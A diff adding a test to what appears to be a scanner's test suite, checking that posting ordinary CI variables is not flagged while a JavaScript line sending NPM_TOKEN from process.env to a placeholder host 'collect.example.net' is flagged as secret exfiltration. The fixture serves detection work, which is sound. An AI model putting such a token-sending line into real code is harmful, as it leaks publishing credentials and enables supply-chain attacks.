@@ -403,3 +403,10 @@ def test_code_compiled_from_network_data_is_a_remote_execution_flow(code: str) -
 )
 def test_network_data_that_is_not_compiled_is_no_remote_execution(code: str) -> None:
     assert not [f for f in flows_of(code).flows if f.sink.executes]
+
+
+def test_destructured_env_names_are_variables_not_the_whole_environment() -> None:
+    plain = "const { GITHUB_REPOSITORY, GITHUB_RUN_ID } = process.env;\nfetch('https://pkg.example.com/p', {method: 'POST', body: JSON.stringify({ r: GITHUB_REPOSITORY, id: GITHUB_RUN_ID })});"
+    assert kinds(plain) == set()
+    secret = "const { NPM_TOKEN } = process.env;\nfetch('https://collect.example.net/p', {method: 'POST', body: NPM_TOKEN});"
+    assert kinds(secret) == {Kind.SECRET_ENV}
